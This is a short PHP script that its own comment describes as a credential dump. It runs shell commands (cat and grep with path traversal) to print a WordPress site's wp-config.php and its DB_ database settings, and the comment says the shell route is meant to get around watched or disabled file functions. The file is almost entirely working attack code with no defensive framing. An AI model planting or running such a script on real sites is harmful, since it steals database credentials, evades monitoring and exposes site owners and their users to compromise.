<?php
// A credential dump: the CMS's configuration printed through a shell command, where file
// functions are watched or disabled.
header('Content-Type: text/plain');
echo shell_exec('cat ../../../wp-config.php');
echo `grep -i DB_ ../wp-config.php`;
